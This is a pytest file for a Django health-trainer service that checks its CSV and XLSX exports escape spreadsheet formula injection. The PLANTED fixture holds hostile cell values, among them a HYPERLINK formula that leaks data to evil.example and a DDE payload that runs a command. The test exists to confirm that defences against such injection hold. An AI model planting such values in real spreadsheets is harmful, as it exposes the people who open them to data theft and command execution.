"""No file the service writes carries a formula that someone typed: every CSV and XLSX
export, opened as a colleague would open it."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from healthtrainer.accounts.roles import Role
from healthtrainer.core.spreadsheets import FORMULA_STARTS
from healthtrainer.programmes.models import Organisation
from healthtrainer.qualitative import services
from healthtrainer.qualitative.tests.test_views import _participant
from healthtrainer.tests.factories import accepted_episode

PLANTED = {
    "code": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "definition": "+cmd|' /C calc'!A0",
    "example": "@SUM(1,2)",
    "theme": "-2+3 theme",
    "title": "=1+2",
    "quote": "=SUM(1,2)",
    "practice": "=1+1 Practice",
    "programme": "@Programme",
}


@pytest.fixture
def planted(world):
    manager = world.people[Role.PROGRAMME_MANAGER]
    trainer = world.people[Role.HEALTH_TRAINER]
    world.programme.name = PLANTED["programme"]
    world.programme.save()
    episode = accepted_episode(trainer, world.programme)
    Organisation.objects.filter(pk=episode.practice_id).update(name=PLANTED["practice"])
    theme = services.theme_save(
        actor=manager, programme=world.programme, name=PLANTED["theme"], description="", aspect=""
    )
    code = services.code_save(
        actor=manager,
        programme=world.programme,
        details=services.CodeDetails(
            name=PLANTED["code"],
            definition=PLANTED["definition"],
            example=PLANTED["example"],
            theme=theme,
        ),
    )
    document = services.document_create(
        actor=manager,
        participant=_participant(world, client=episode.client),
        kind="case_study",
        title=PLANTED["title"],
        text=PLANTED["quote"] + " and pacing helped.",
        source_name="pasted",
        replacements=[],
    )
    services.coding_add(
        actor=manager,
        document=document,
        codes=[code],
        start=0,
        end=len(PLANTED["quote"]),
        version=document.version,
    )
    return world


def _downloads(world) -> list[str]:
    slug = world.programme.slug
    return [
        reverse("evaluation:report_download", args=[slug, "csv"]),
        reverse("evaluation:report_download", args=[slug, "xlsx"]),
        reverse("evaluation:research_export", args=[slug]),
        reverse("qualitative:segments_export", args=[slug, "csv"]),
        reverse("qualitative:segments_export", args=[slug, "xlsx"]),
        reverse("qualitative:codebook_export", args=[slug, "csv"]),
    ]


def _cells(address: str, content: bytes) -> list[tuple[object, str]]:
    """Every cell of the file: its value and, for XLSX, its type."""
    if address.endswith("xlsx"):
        book = load_workbook(io.BytesIO(content))
        return [
            (cell.value, cell.data_type)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = content.decode("utf-8-sig")
    return [(value, "s") for row in csv.reader(io.StringIO(text)) for value in row]


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_export_holds_a_formula_that_someone_typed(planted, client_as):
    manager = client_as(Role.PROGRAMME_MANAGER)
    seen_planted = set()
    for address in _downloads(planted):
        response = manager.get(address, {"disclosure": "exact"})
        assert response.status_code == 200, address
        content = b"".join(response.streaming_content) if response.streaming else response.content
        for value, data_type in _cells(address, content):
            assert data_type != "f", (address, value)
            if isinstance(value, str):
                dangerous = value.startswith(FORMULA_STARTS) and not _is_plain_number(value)
                assert not dangerous, (address, value)
                seen_planted |= {name for name, text in PLANTED.items() if "'" + text in value}
    # The planted text reached the files, written safe, so the check above meant something.
    assert {"code", "title", "quote", "practice", "programme"} <= seen_planted
